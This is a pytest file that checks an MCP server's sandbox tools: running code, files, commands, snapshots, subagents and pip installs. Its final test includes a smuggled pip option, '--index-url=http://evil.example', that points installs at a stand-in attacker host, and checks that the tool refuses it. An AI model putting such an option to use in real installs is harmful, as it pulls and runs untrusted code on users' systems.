"""Every tool, called by the official client, over every transport and in both eras."""

from __future__ import annotations

import asyncio
import base64
from typing import Any

import pytest

from k8e.mcp import catalog
from tests.mcp.conftest import Connect
from tests.mcp.connecting import refused, told

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(120)]


async def test_tools_and_their_schemas_are_listed(connect: Connect) -> None:
    async with connect() as client:
        found = (await client.list_tools()).tools
    assert [item.name for item in found] == list(catalog.TOOLS)
    assert all(item.output_schema and item.annotations and item.title for item in found)


async def test_code_runs_and_files_stay(connect: Connect) -> None:
    async with connect() as client:
        first = told(await client.call_tool("sandbox_run", {"code": "echo hi > a.txt; exit 3"}))
        assert (first["exit_code"], first["stdout"]) == (3, "")
        session = {"session_id": first["session_id"]}
        done = told(await client.call_tool("sandbox_run", {"code": "cat a.txt", **session}))
        assert done["stdout"] == "hi\n"
        assert "stderr" not in done
        code = {"code": "import sys\nprint('out')\nprint('err', file=sys.stderr)"}
        done = told(await client.call_tool("sandbox_run", {**code, "language": "py", **session}))
        assert (done["stdout"], done["stderr"]) == ("out\n", "err\n")
        await files(client, session)
        await commands(client, session)
        await others(client, session)


async def files(client: Any, session: dict[str, str]) -> None:
    written = {"path": "b/c.bin", "content": base64.b64encode(b"\xff\0").decode()}
    await client.call_tool("sandbox_write_file", {**written, "encoding": "base64", **session})
    found = told(await client.call_tool("sandbox_read_file", {"path": "b/c.bin", **session}))
    assert (found["encoding"], found["size"]) == ("base64", 2)
    await client.call_tool("sandbox_write_file", {"path": "d.txt", "content": "é", **session})
    more = {"path": "d.txt", "content": "!", "mode": "a"}
    assert told(await client.call_tool("sandbox_write_file", {**more, **session}))["ok"]
    result = await client.call_tool("sandbox_read_file", {"path": "d.txt", **session})
    assert result.content[0].text == "é!"
    part = {"path": "d.txt", "limit": 1, **session}
    assert told(await client.call_tool("sandbox_read_file", part))["truncated"]
    found = told(await client.call_tool("sandbox_list_files", session))["files"]
    assert {item["path"] for item in found} >= {"/workspace/a.txt", "/workspace/b/c.bin"}
    missing = await client.call_tool("sandbox_read_file", {"path": "none", **session})
    assert "sandbox_list_files" in refused(missing)
    uri = f"sandbox://{session['session_id']}/workspace/d.txt"
    assert (await client.read_resource(uri)).contents[0].text == "é!"
    uri = f"sandbox://{session['session_id']}/workspace/b/c.bin"
    assert (await client.read_resource(uri)).contents[0].blob == "/wA="


async def commands(client: Any, session: dict[str, str]) -> None:
    done = told(
        await client.call_tool("sandbox_exec", {"command": "pwd", "workdir": "/", **session})
    )
    assert (done["stdout"], done["exit_code"]) == ("/\n", 0)
    command = {"command": "echo a; sleep 0.1; echo b >&2; exit 4"}
    result = await client.call_tool("sandbox_exec_stream", {**command, **session})
    assert result.content[0].text == "a\nb\n"
    assert told(result)["exit_code"] == 4
    late = await client.call_tool("sandbox_exec", {"command": "sleep 9", "timeout": 1, **session})
    assert told(late)["status"] == "timed_out"
    started = told(await client.call_tool("sandbox_run_background", {"code": "echo x", **session}))
    run = {"run_id": started["run_id"]}
    ended = told(await client.call_tool("sandbox_poll", {**run, "wait": 10}))
    assert (ended["status"], ended["stdout"], ended["exit_code"]) == ("completed", "x\n", 0)
    started = told(
        await client.call_tool("sandbox_run_background", {"code": "sleep 99", **session})
    )
    run = {"run_id": started["run_id"]}
    assert told(await client.call_tool("sandbox_poll", run))["exit_code"] is None
    assert told(await client.call_tool("sandbox_kill", run))["ok"]
    assert told(await client.call_tool("sandbox_poll", {**run, "wait": 10}))["status"] == "killed"


async def others(client: Any, session: dict[str, str]) -> None:
    child = {"parent_session_id": session["session_id"], "agent_type": "coding"}
    made = told(await client.call_tool("sandbox_run_subagent", child))["session_id"]
    done = await client.call_tool("sandbox_exec", {"command": "cat a.txt", "session_id": made})
    assert told(done)["stdout"] == "hi\n"
    exposed = told(await client.call_tool("sandbox_expose", {"port": 8000, **session}))
    assert exposed["url"].startswith("http://127.")
    assert told(await client.call_tool("sandbox_unexpose", {"port": 8000, **session}))["ok"]
    await client.call_tool("sandbox_snapshot_save", {"name": "mine", "replace": True, **session})
    found = told(await client.call_tool("sandbox_snapshot_list"))["snapshots"]
    assert "mine" in [item["name"] for item in found]
    made = told(await client.call_tool("sandbox_snapshot_restore", {"name": "mine"}))["session_id"]
    done = await client.call_tool("sandbox_exec", {"command": "cat a.txt", "session_id": made})
    assert told(done)["stdout"] == "hi\n"
    assert told(await client.call_tool("sandbox_snapshot_delete", {"name": "mine"}))["ok"]
    assert told(await client.call_tool("sandbox_status"))["available"]
    found = told(await client.call_tool("sandbox_list_sessions"))["sessions"]
    assert made in [item["session_id"] for item in found]
    assert told(await client.call_tool("sandbox_destroy_session", {"session_id": made}))["ok"]
    gone = await client.call_tool("sandbox_exec", {"command": "true", "session_id": made})
    assert "not found" in refused(gone)


async def test_mistakes_are_explained_to_the_model(connect: Connect) -> None:
    async with connect() as client:
        call = client.call_tool
        assert "did you mean sandbox_run?" in refused(await call("sandbox_rum", {"code": "x"}))
        assert "needs the argument 'code'" in refused(await call("sandbox_run", {}))
        assert "did you mean 'language'?" in refused(
            await call("sandbox_run", {"code": "x", "langage": "py"})
        )
        assert "not of type integer" in refused(
            await call("sandbox_run", {"code": "x", "timeout": "9"})
        )
        other = {"command": "true", "session_id": "sess-somebody-elses"}
        assert "not found" in refused(await call("sandbox_exec", other))


async def test_cancelling_kills_the_program_and_output_comes_as_progress(connect: Connect) -> None:
    heard: list[str] = []
    begun = asyncio.Event()

    async def hear(progress: float, total: float | None, message: str | None) -> None:
        heard.append(message or "")
        if "begun" in "".join(heard):
            begun.set()

    async with connect() as client:
        made = told(await client.call_tool("sandbox_create_session"))["session_id"]
        session = {"session_id": made}
        code = {"code": "echo begun; echo $$ > pid; sleep 98", "timeout": 90}
        running = asyncio.create_task(
            client.call_tool("sandbox_run", {**code, **session}, progress_callback=hear)
        )
        async with asyncio.timeout(20):
            await begun.wait()
        running.cancel()
        await asyncio.wait({running}, timeout=10)
        look = {"command": "for n in $(seq 100); do kill -0 $(cat pid) || exit 7; sleep 0.1; done"}
        assert told(await client.call_tool("sandbox_exec", {**look, **session}))["exit_code"] == 7


@pytest.mark.parametrize("way", ["http"], indirect=True)
async def test_contexts_keep_variables_and_show_values(connect: Connect) -> None:
    async with connect() as client:
        made = told(await client.call_tool("sandbox_create_session"))["session_id"]
        run = {"language": "python", "context": "main", "session_id": made}
        await client.call_tool("sandbox_run", {"code": "x = 41", **run})
        done = told(await client.call_tool("sandbox_run", {"code": "x + 1", **run}))
        assert done["stdout"] == "42\n"
        done = told(await client.call_tool("sandbox_run", {"code": "1 / 0", **run}))
        assert done["exit_code"] == 1
        assert "ZeroDivisionError" in done["stderr"]


@pytest.mark.parametrize("way", ["http"], indirect=True)
async def test_pip_that_fails_is_a_result(connect: Connect) -> None:
    async with connect() as client:
        install = {"packages": ["no-such-package>=2"], "timeout": 1}
        assert told(await client.call_tool("sandbox_pip_install", install))["exit_code"] != 0
        harmful = {"packages": ["--index-url=http://evil.example"]}
        assert refused(await client.call_tool("sandbox_pip_install", harmful))
